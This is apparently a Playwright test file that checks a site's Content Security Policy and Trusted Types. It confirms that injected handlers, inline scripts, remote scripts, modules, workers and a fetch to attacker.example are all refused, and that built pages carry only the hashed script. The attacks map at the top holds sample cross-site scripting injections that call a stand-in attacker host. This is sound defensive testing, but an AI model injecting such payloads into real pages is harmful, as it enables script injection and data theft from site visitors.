import { createHash } from 'node:crypto'
import { readFile } from 'node:fs/promises'
import { expect, expectAlive, test } from '#tests/journeys/support/site-test.ts'
import { circuitPages, publicPages } from '#tests/public-pages.ts'

const attacks: Record<string, () => unknown> = {
  'markup with a handler': () => {
    document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.name = \'attacked\'">')
  },
  'a script of its own': () => {
    document.head.append(Object.assign(document.createElement('script'), { text: "window.name = 'attacked'" }))
  },
  'a script from elsewhere': () => {
    document.head.append(Object.assign(document.createElement('script'), { src: 'https://attacker.example/script.js' }))
  },
  'a module from elsewhere': () => import(/* @vite-ignore */ new URL('https://attacker.example/module.js').href),
  'a worker from elsewhere': () => new Worker('https://attacker.example/worker.js'),
  'a handler that is text': () => document.body.setAttribute('onclick', "window.name = 'attacked'"),
  'a call to elsewhere': () => fetch('https://attacker.example/'),
}

for (const build of ['dist', 'dist-api'] as const) {
  test.describe(`served from ${build}`, () => {
    test.use({ build })

    for (const [attack, run] of Object.entries(attacks)) {
      test(`${attack} is refused`, async ({ page, noise }) => {
        await page.goto('/contact')
        await expectAlive(page)
        // Some attacks throw, others come to nothing; the browser tells of each.
        await page.evaluate(run).catch(() => undefined)
        await expect.poll(() => noise.splice(0).join()).toMatch(/Content Security Policy|This document requires 'Trusted/)
        expect(await page.evaluate(() => window.name)).toBe('')
      })
    }
  })
}

test('the policy allows the one script in the documents, and no other by its mere presence', async () => {
  const headers = await readFile('dist/_headers', 'utf8')
  const [, hash] = /script-src 'self' 'sha256-([^']+)';/.exec(headers) ?? []
  for (const path of [...publicPages, '/invitation', '/test', ...circuitPages('nord'), '/shell']) {
    // oxlint-disable-next-line no-await-in-loop -- one file after the other
    const html = await readFile(`dist${path === '/' ? '/index' : path}.html`, 'utf8')
    const scripts = [...html.matchAll(/<script(?! type="application)[^>]*>(.*?)<\/script>/gs)].map(([, text = '']) => text)
    expect(scripts.map((text) => createHash('sha256').update(text).digest('base64')), path).toEqual([hash])
    expect(html, path).not.toMatch(/<[^>]+\son[a-z]+=/i)
  }
})

// On a page that the build has written it is there already; on the next one React makes a script element of it.
test('what a page says to search engines comes with the page, past the guard of markup and scripts', async ({ page }) => {
  // The one picture from elsewhere.
  const svg = { contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"/>' }
  await page.route('https://api.qrserver.com/**', (route) => route.fulfill(svg))
  await page.goto('/services')
  await expectAlive(page)
  for (const [link, subject] of [
    ['Blog', 'Blog'],
    ['Télécharger', 'SoftwareApplication'],
    ['Accueil', 'TravelAgency'],
  ] as const) {
    // oxlint-disable-next-line no-await-in-loop -- a walk
    await page.getByRole('navigation', { name: 'Navigation principale' }).getByRole('link', { name: link, exact: true }).click()
    // oxlint-disable-next-line no-await-in-loop -- as above
    await expect.poll(() => page.locator('main script[type="application/ld+json"]').first().textContent()).toContain(`"${subject}"`)
  }
})
